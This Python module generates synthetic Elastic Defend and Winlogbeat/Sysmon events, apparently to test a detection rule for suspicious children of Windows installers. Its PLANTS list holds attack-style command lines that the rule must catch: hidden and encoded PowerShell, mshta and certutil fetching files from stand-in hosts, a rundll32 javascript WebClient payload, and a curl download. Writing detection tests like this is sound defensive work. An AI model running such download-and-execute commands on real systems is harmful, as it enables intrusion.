"""Modelled events as Elastic Defend and Winlogbeat write them, some 2.5 KB each; knows no corpus, and no rule but the published one.

Field names and nesting: https://www.elastic.co/docs/reference/integrations/endpoint, https://www.elastic.co/docs/reference/beats/winlogbeat.
An event is decided by its number and by the random numbers handed in, so a corpus can be made in parallel and again.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any

Event = dict[str, Any]

START = datetime(2026, 11, 2, 6, 0, tzinfo=UTC)
STEP = timedelta(milliseconds=100)
HOSTS = 400
SYSTEM = "C:\\Windows\\System32\\"
# What runs on an office machine: name, folder, and what a command line of it looks like.
PROGRAMS = (
    ("svchost.exe", SYSTEM, "-k netsvcs -p -s Schedule"),
    ("svchost.exe", SYSTEM, "-k LocalServiceNetworkRestricted -p -s DPS"),
    (
        "chrome.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\",
        "--type=renderer --lang=en-GB --field-trial-handle={n}",
    ),
    (
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\",
        "--type=utility --mojo-platform-channel-handle={n}",
    ),
    (
        "Teams.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\",
        "--type=gpu-process --no-sandbox {n}",
    ),
    ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\", "/recycle"),
    (
        "EXCEL.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\",
        '"C:\\Users\\{user}\\Documents\\Übersicht {n}.xlsx"',
    ),
    (
        "SearchProtocolHost.exe",
        SYSTEM,
        'Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software"',
    ),
    ("RuntimeBroker.exe", SYSTEM, "-Embedding"),
    ("conhost.exe", SYSTEM, "0xffffffff -ForceV1"),
    ("taskhostw.exe", SYSTEM, "USER"),
    ("MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\", ""),
    ("wmiprvse.exe", SYSTEM + "wbem\\", "-secured -Embedding"),
    ("backgroundTaskHost.exe", SYSTEM, "-ServerName:App.AppX{n}.mca"),
    ("git.exe", "C:\\Program Files\\Git\\cmd\\", "fetch --all --prune"),
    ("python.exe", "C:\\Python312\\", 'manage.py migrate --database "tenant_{n}"'),
    ("powershell.exe", SYSTEM + "WindowsPowerShell\\v1.0\\", "-NoProfile -File C:\\Scripts\\inventory.ps1 -Id {n}"),
    ("cmd.exe", SYSTEM, "/d /c echo %DATE% >> C:\\Temp\\log{n}.txt"),
)
PARENTS = (
    ("services.exe", SYSTEM, ""),
    ("explorer.exe", "C:\\Windows\\", ""),
    ("svchost.exe", SYSTEM, "-k DcomLaunch -p"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\", ""),
    ("userinit.exe", SYSTEM, ""),
    ("taskeng.exe", SYSTEM, "{n}"),
)
USERS = ("k.novak", "j.díaz", "a.smith", "m.ōta", "SYSTEM", "LOCAL SERVICE", "r.brown", "svc_backup")
LIBRARIES = ("ntdll.dll", "kernel32.dll", "amsi.dll", "wldp.dll", "clr.dll", "mscoree.dll", "dbghelp.dll", "ws2_32.dll")
EXTENSIONS = ("tmp", "log", "docx", "json", "dat", "pf", "lnk", "db-wal")
DOMAINS = ("login.example.com", "update.example.net", "telemetry.example.org", "files.example.com", "ocsp.example.net")
INSTALLER = ("msiexec.exe", SYSTEM, "/V")
# What installers start every day that the published rule does not ask for; many other rules look at each.
INSTALLER_CHILDREN = (
    ("msiexec.exe", SYSTEM, "-Embedding {n} E Global\\MSI0000"),
    ("rundll32.exe", SYSTEM, "C:\\Windows\\Installer\\MSI{n}.tmp,zzzzInvokeManagedCustomActionOutOfProc SfxCA_{n}"),
    ("regsvr32.exe", SYSTEM, '/s "C:\\Program Files\\Vendor\\plugin{n}.dll"'),
    ("schtasks.exe", SYSTEM, '/create /tn Vendor\\Update{n} /tr "C:\\Program Files\\Vendor\\update.exe" /sc daily'),
    ("sc.exe", SYSTEM, 'create Vendor{n} binPath= "C:\\Program Files\\Vendor\\service.exe" start= auto'),
    ("netsh.exe", SYSTEM, 'advfirewall firewall add rule name="Vendor {n}" dir=in action=allow'),
    ("icacls.exe", SYSTEM, '"C:\\ProgramData\\Vendor\\{n}" /grant Users:(OI)(CI)M'),
    ("reg.exe", SYSTEM, 'add "HKLM\\Software\\Vendor" /v Id /d {n} /f'),
)
# What the published rule must find: name, folder, arguments. Cases, escapes and both of its branches.
PLANTS = (
    ("powershell.exe", SYSTEM + "WindowsPowerShell\\v1.0\\", "-nop -w hidden -File C:\\ProgramData\\stage{n}.ps1"),
    ("PowerShell.EXE", SYSTEM + "WindowsPowerShell\\v1.0\\", "-enc SQBFAFgA{n}"),
    ("CMD.exe", SYSTEM, '/c "C:\\ProgramData\\réseau {n}.bat"'),
    ("mshta.exe", SYSTEM, "https://files.example.com/{n}.hta"),
    ("rundll32.exe", SYSTEM, 'javascript:"\\..\\mshtml,run(\\"NET.WEBCLIENT {n}\\")"'),
    ("curl.exe", SYSTEM, "-s -o C:\\ProgramData\\{n}.bin HTTP://203.0.113.7/{n}"),
    ("CertUtil.exe", SYSTEM, "-URLCACHE -f https://files.example.com/{n} C:\\ProgramData\\{n}.dll"),
    ("loader.exe", "C:\\ProgramData\\", "certutil -split -urlcache {n}"),
)
PLANT_TYPES = (["start"], ["change", "start"], ["start", "info"])
PLANT_PARENTS = ("msiexec.exe", "MSIEXEC.EXE", "MsiExec.exe", "Chocolatey", "WinGet")


@dataclass(frozen=True)
class Number:
    """The place of an event in its corpus, and what follows from it."""

    index: int

    @property
    def host(self) -> int:
        return (self.index * 7919) % HOSTS

    @property
    def time(self) -> str:
        return (START + STEP * self.index).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"

    @property
    def id(self) -> str:
        return f"NbR{self.index:09d}lZ++++{(self.index * 2654435761) % 4294967296:08x}"


def entity(index: int, salt: int) -> str:
    """An entity id as the endpoint forms it: base64 of agent, pid and time; here of the number only."""
    return f"ZGY4{(index * 40503 + salt * 65537) % 281474976710656:012x}LTE{salt}tMTMz"


def host(number: int) -> Event:
    """`host` of one of the machines."""
    name = f"ws-{number:04d}"
    octets = f"{number // 250}.{number % 250 + 1}"
    return {
        "hostname": name,
        "os": {
            "Ext": {"variant": "Windows 11 Enterprise"},
            "kernel": "23H2 (10.0.22631.4460)",
            "name": "Windows",
            "family": "windows",
            "type": "windows",
            "version": "23H2 (10.0.22631.4460)",
            "platform": "windows",
            "full": "Windows 11 Enterprise 23H2 (10.0.22631.4460)",
        },
        "ip": [f"10.20.{octets}", "127.0.0.1", f"fe80::1c2b:{number:x}:9fef:fe12", "::1"],
        "name": name,
        "id": f"6f1c3d1e-0000-4000-8000-{number:012x}",
        "mac": [f"00-50-56-a1-{number // 256:02x}-{number % 256:02x}"],
        "architecture": "x86_64",
    }


HOST = [host(number) for number in range(HOSTS)]


def head(number: Number, kind: str, action: str, types: list[str], *, category: list[str] | None = None) -> Event:
    """What every document of the endpoint has. `kind` is the data set's last part."""
    dataset = f"endpoint.events.{kind}"
    return {
        "agent": {"id": f"a9d2-{number.host:06x}-4c1e-8f0a", "type": "endpoint", "version": "8.17.1"},
        "@timestamp": number.time,
        "ecs": {"version": "8.10.0"},
        "data_stream": {"namespace": "default", "type": "logs", "dataset": dataset},
        "elastic": {"agent": {"id": f"a9d2-{number.host:06x}-4c1e-8f0a"}},
        "host": HOST[number.host],
        "event": {
            "agent_id_status": "verified",
            "sequence": number.index,
            "ingested": number.time,
            "created": number.time,
            "kind": "event",
            "module": "endpoint",
            "action": action,
            "id": number.id,
            "category": category or [kind],
            "type": types,
            "dataset": dataset,
            "outcome": "unknown",
        },
        "message": f"Endpoint {kind} event",
    }


def user(random: Random) -> Event:
    """`user` of a document."""
    name = random.choice(USERS)
    return {
        "domain": "CORP",
        "name": name,
        "id": f"S-1-5-21-1004336348-1177238915-682003330-{random.randrange(500, 9999)}",
    }


def image(program: tuple[str, str, str], random: Random, owner: str) -> Event:
    """Name, executable, command line and arguments of one process."""
    name, folder, arguments = program
    text = arguments.replace("{n}", str(random.randrange(10**6))).replace("{user}", owner)
    executable = folder.replace("{user}", owner) + name
    return {
        "name": name,
        "pid": random.randrange(4, 60000),
        "executable": executable,
        "command_line": f'"{executable}" {text}'.rstrip(),
        "args": [executable, *text.split()],
        "args_count": len(text.split()) + 1,
    }


def signature() -> Event:
    """`code_signature` of a trusted file."""
    return {"trusted": True, "subject_name": "Microsoft Windows Publisher", "exists": True, "status": "trusted"}


def process(
    number: Number, random: Random, program: tuple[str, str, str], parent: tuple[str, str, str], owner: str
) -> Event:
    """`process` of a process event, its parent included."""
    ids = [entity(number.index, salt) for salt in range(6)]
    hashes = {
        "md5": f"{random.getrandbits(128):032x}",
        "sha1": f"{random.getrandbits(160):040x}",
        "sha256": f"{random.getrandbits(256):064x}",
    }
    return {
        "Ext": {
            "ancestry": ids[1:],
            "code_signature": [signature()],
            "session_info": {
                "logon_type": "Interactive",
                "authentication_package": "Negotiate",
                "id": 1,
                "user_flags": ["LOGON_OPTIMIZED"],
            },
            "authentication_id": f"0x{random.getrandbits(24):x}",
            "token": {
                "integrity_level_name": "medium",
                "elevation": False,
                "elevation_type": "limited",
                "security_attributes": ["TSA://ProcUnique"],
            },
            "relative_file_creation_time": random.randrange(10**8) / 10,
            "relative_file_name_modify_time": random.randrange(10**8) / 10,
        },
        **image(program, random, owner),
        "parent": {
            **image(parent, random, owner),
            "entity_id": ids[1],
            "thread": {"Ext": {"call_stack_summary": "ntdll.dll|kernelbase.dll|kernel32.dll|Unknown"}},
            "Ext": {
                "code_signature": [signature()],
                "user": "CORP\\" + owner,
                "architecture": "x86_64",
                "real": {"pid": 0},
            },
            "code_signature": signature(),
        },
        "entity_id": ids[0],
        "working_directory": "C:\\Windows\\system32\\",
        "code_signature": signature(),
        "pe": {
            "original_file_name": program[0],
            "imphash": f"{random.getrandbits(128):032x}",
            "company": "Microsoft Corporation",
        },
        "hash": hashes,
        "uptime": 0,
        "thread": {"id": random.randrange(60000)},
    }


def process_event(
    number: Number,
    random: Random,
    *,
    program: tuple[str, str, str] | None = None,
    parent: tuple[str, str, str] | None = None,
    types: list[str] | None = None,
) -> Event:
    """The start or the end of a process; an ordinary one unless told."""
    owner = random.choice(USERS)
    types = types or (["end"] if random.random() < 0.3 else ["start"])
    return {
        **head(number, "process", types[-1], types),
        "process": process(number, random, program or random.choice(PROGRAMS), parent or random.choice(PARENTS), owner),
        "user": {"domain": "CORP", "name": owner, "id": "S-1-5-21-1004336348-1177238915-682003330-1104"},
    }


def planted_event(number: Number, random: Random) -> Event:
    """A process start that the published rule must find."""
    return process_event(
        number,
        random,
        program=random.choice(PLANTS),
        parent=(random.choice(PLANT_PARENTS), SYSTEM, "/V"),
        types=random.choice(PLANT_TYPES),
    )


def installer_event(number: Number, random: Random) -> Event:
    """What an installer does on an ordinary day: children, files, registry values and libraries; no match."""
    chance = random.random()
    if chance < 0.5:
        return process_event(
            number, random, program=random.choice(INSTALLER_CHILDREN), parent=INSTALLER, types=["start"]
        )
    if chance < 0.7:
        return file_event(number, random, by=INSTALLER)
    return registry_event(number, random, by=INSTALLER) if chance < 0.9 else library_event(number, random, by=INSTALLER)


def actor(number: Number, random: Random, by: tuple[str, str, str] | None) -> Event:
    """`process` of an event that is not about a process: shorter, as the endpoint writes it."""
    program = by or random.choice(PROGRAMS)
    owner = random.choice(USERS)
    named = image(program, random, owner)
    return {
        "Ext": {"ancestry": [entity(number.index // 50, salt) for salt in range(5)], "code_signature": [signature()]},
        "name": named["name"],
        "pid": named["pid"],
        "entity_id": entity(number.index // 50, 0),
        "executable": named["executable"],
        "command_line": named["command_line"],
        "code_signature": signature(),
        "thread": {
            "id": random.randrange(60000),
            "Ext": {
                "call_stack": [
                    {"symbol_info": f"{SYSTEM}{name}+0x{random.getrandbits(20):x}"} for name in LIBRARIES[:3]
                ]
            },
        },
    }


def file_event(number: Number, random: Random, *, by: tuple[str, str, str] | None = None) -> Event:
    """A file made, changed or deleted."""
    action = random.choice(("creation", "modification", "deletion", "rename"))
    owner = random.choice(USERS)
    extension = random.choice(EXTENSIONS)
    name = f"item-{random.randrange(10**6)}.{extension}"
    path = f"C:\\Users\\{owner}\\AppData\\Local\\Temp\\{name}"
    return {
        **head(number, "file", action, [{"modification": "change"}.get(action, action)]),
        "process": actor(number, random, by),
        "file": {
            "Ext": {
                "entropy": random.randrange(8000) / 1000,
                "header_bytes": f"{random.getrandbits(128):032x}",
                "monotonic_id": number.index,
                "windows": {"zone_identifier": -1},
            },
            "path": path,
            "drive_letter": "C",
            "extension": extension,
            "size": random.randrange(10**7),
            "owner": owner,
            "name": name,
            "directory": path.rpartition("\\")[0],
        },
        "user": user(random),
    }


def registry_event(number: Number, random: Random, *, by: tuple[str, str, str] | None = None) -> Event:
    """A registry value set."""
    key = f"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SessionInfo\\{random.randrange(9)}\\ApplicationViewManagement\\W32:{random.getrandbits(64):016X}"
    return {
        **head(number, "registry", "modification", ["change"]),
        "process": actor(number, random, by),
        "registry": {
            "hive": "HKEY_USERS",
            "path": f"HKEY_USERS\\S-1-5-21-1004336348\\{key}\\VirtualDesktop",
            "key": f"S-1-5-21-1004336348\\{key}",
            "value": "VirtualDesktop",
            "data": {
                "type": "REG_BINARY",
                "bytes": f"{random.getrandbits(256):064x}",
                "strings": [f"{random.getrandbits(128):032x}"],
            },
        },
        "user": user(random),
    }


def library_event(number: Number, random: Random, *, by: tuple[str, str, str] | None = None) -> Event:
    """A library loaded."""
    name = random.choice(LIBRARIES)
    return {
        **head(number, "library", "load", ["start"]),
        "process": actor(number, random, by),
        "dll": {
            "Ext": {
                "relative_file_creation_time": random.randrange(10**8) / 10,
                "load_index": 1,
                "size": random.randrange(10**7),
                "device": {"volume_device_type": "Disk File System"},
            },
            "path": SYSTEM + name,
            "name": name,
            "code_signature": signature(),
            "pe": {"original_file_name": name, "imphash": f"{random.getrandbits(128):032x}"},
            "hash": {"md5": f"{random.getrandbits(128):032x}", "sha256": f"{random.getrandbits(256):064x}"},
        },
        "user": user(random),
    }


def network_event(number: Number, random: Random) -> Event:
    """A connection attempted, accepted or ended."""
    action = random.choice(("connection_attempted", "connection_accepted", "disconnect_received"))
    return {
        **head(number, "network", action, ["end" if action.startswith("dis") else "start"]),
        "process": actor(number, random, None),
        "source": {
            "address": HOST[number.host]["ip"][0],
            "ip": HOST[number.host]["ip"][0],
            "port": random.randrange(49152, 65535),
            "bytes": random.randrange(10**6),
        },
        "destination": {
            "address": f"203.0.113.{random.randrange(255)}",
            "ip": f"203.0.113.{random.randrange(255)}",
            "port": 443,
            "bytes": random.randrange(10**7),
        },
        "network": {"transport": "tcp", "type": "ipv4", "direction": "egress", "bytes": random.randrange(10**7)},
        "user": user(random),
    }


def dns_event(number: Number, random: Random) -> Event:
    """A name looked up: the endpoint writes it to its network data set."""
    name = random.choice(DOMAINS)
    return {
        **head(number, "network", "lookup_result", ["protocol", "info"]),
        "process": actor(number, random, None),
        "dns": {
            "Ext": {"options": 1073766400, "status": 0},
            "question": {"name": name, "type": "A", "registered_domain": name.partition(".")[2]},
            "resolved_ip": [f"::ffff:203.0.113.{random.randrange(255)}" for _ in range(3)],
        },
        "network": {"protocol": "dns"},
        "user": user(random),
    }


# A busy endpoint's mix, in hundredths: mostly files, then libraries and the network.
MIX = (
    *((process_event,) * 18),
    *((file_event,) * 34),
    *((registry_event,) * 14),
    *((library_event,) * 16),
    *((network_event,) * 12),
    *((dns_event,) * 6),
)


def ordinary_event(number: Number, random: Random) -> Event:
    """An event of the mix; none matches the published rule."""
    return random.choice(MIX)(number, random)


def winlogbeat_event(number: Number, random: Random, *, planted: bool) -> Event:
    """A Sysmon process creation as Winlogbeat writes it: the ECS fields and the record's own texts beside them."""
    owner = random.choice(USERS)
    program = random.choice(PLANTS if planted else PROGRAMS)
    parent = (random.choice(PLANT_PARENTS), SYSTEM, "/V") if planted else random.choice(PARENTS)
    child, above = image(program, random, owner), image(parent, random, owner)
    sha256 = f"{random.getrandbits(256):064x}"
    identity = f"{{6f1c3d1e-{number.index & 0xFFFF:04x}-6726-{number.index >> 16 & 0xFFFF:04x}-000000000000}}"
    raised = {
        "RuleName": "-", "UtcTime": number.time, "ProcessGuid": identity, "Image": child["executable"], "CommandLine": child["command_line"],
        "CurrentDirectory": "C:\\Windows\\system32\\", "User": f"CORP\\{owner}", "LogonId": "0x3e7", "IntegrityLevel": "Medium", "Company": "Microsoft Corporation",
        "Description": "Windows component", "FileVersion": "10.0.22621.1", "Product": "Microsoft® Windows® Operating System", "ParentImage": above["executable"],
    }  # fmt: skip
    return {
        "@timestamp": number.time,
        "agent": {"id": f"w1-{number.host:06x}", "type": "winlogbeat", "version": "8.17.1", "name": HOST[number.host]["name"]},
        "ecs": {"version": "8.0.0"},
        "event": {
            "action": "Process creation", "category": ["process"], "type": ["start"], "code": "1", "kind": "event", "module": "sysmon", "id": number.id,
            "provider": "Microsoft-Windows-Sysmon", "created": number.time, "ingested": number.time,
        },
        "host": HOST[number.host],
        "log": {"level": "information"},
        "message": "Process Create:\n" + "\n".join(f"{name}: {value}" for name, value in raised.items()),
        "process": {
            **child,
            "entity_id": identity,
            "hash": {"sha256": sha256},
            "parent": {**above, "entity_id": entity(number.index, 1)},
            "pe": {"company": "Microsoft Corporation", "original_file_name": program[0], "imphash": f"{random.getrandbits(128):032x}"},
            "working_directory": "C:\\Windows\\system32\\",
        },
        "related": {"hash": [sha256], "user": [owner]},
        "user": {"domain": "CORP", "name": owner, "id": "S-1-5-18"},
        "winlog": {
            "api": "wineventlog", "channel": "Microsoft-Windows-Sysmon/Operational", "computer_name": HOST[number.host]["name"], "event_data": raised, "event_id": "1",
            "opcode": "Info", "process": {"pid": 3120, "thread": {"id": 4460}}, "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
            "provider_name": "Microsoft-Windows-Sysmon", "record_id": number.index, "task": "Process Create (rule: ProcessCreate)", "version": 5,
            "user": {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM", "type": "User"},
        },
    }  # fmt: skip
